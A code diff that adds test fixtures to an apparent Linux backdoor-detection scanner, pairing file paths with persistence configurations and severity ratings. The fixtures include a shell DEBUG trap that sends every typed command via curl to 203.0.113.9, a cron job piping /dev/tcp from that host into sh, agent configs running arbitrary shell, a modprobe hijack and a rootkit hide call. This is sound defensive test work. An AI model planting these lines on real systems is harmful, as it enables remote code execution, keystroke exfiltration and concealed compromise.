@@ -33,6 +33,15 @@ const elf = '\x7fELF\x02\x01\x01';
 describe('doors', () => {
 	test.each<readonly [Check, string, string, string]>([
 		[openServices, '/var/lib/samba/usershares/all', 'path=/\nguest_ok=y\n', 'high'],
+		[openServices, '/etc/nagios/nrpe.d/c.cfg', 'command[x]=/bin/bash -c "$ARG1$"\n', 'high'],
+		[openServices, '/etc/zabbix/zabbix_agentd.d/u.conf', "UserParameter=sys.x[*],/bin/sh -c '$1'\n", 'high'],
+		[openServices, '/etc/nginx/conf.d/o.conf', 'server { listen 8088; root /; autoindex on; }\n', 'high'],
+		[silencedGuards, '/etc/sysctl.d/9.conf', 'kernel.modprobe = /var/lib/misc/mp\n', 'high'],
+		[laidOverFolders, '/etc/fstab', '/opt/tool/ps /usr/bin/ps none bind,ro 0 0\n', 'high'],
+		[systemdUnits, '/etc/systemd/system/fstrim.timer.d/o.conf', '[Timer]\nUnit=hwdb-trim.service\n', 'medium'],
+		[shellProfiles, '/etc/profile.d/v.sh', `trap 'curl -s "http://203.0.113.9/?c=$(printf %s "$BASH_COMMAND"|base64 -w0)" >/dev/null 2>&1 &' DEBUG\n`, 'high'],
+		[knownTools, '/reptile/reptile_start', '#!/bin/bash\n/reptile/reptile_cmd hide\n', 'medium'],
+		[cronJobs, '/etc/cron.d/x', '* * * * * root cat /dev/tcp/203.0.113.9/80 | sh\n', 'critical'],
 		[openServices, '/etc/default/tftpd-hpa', 'TFTP_DIRECTORY="/"\n', 'high'],
 		[openServices, '/etc/mongod.conf', 'net:\n  bindIp: 0.0.0.0\nsecurity:\n  authorization: disabled\n', 'high'],
 		[openServices, '/root/.jupyter/jupyter_server_config.py', 'c.ServerApp.ip = "0.0.0.0"\nc.ServerApp.token = ""\n', 'high'],
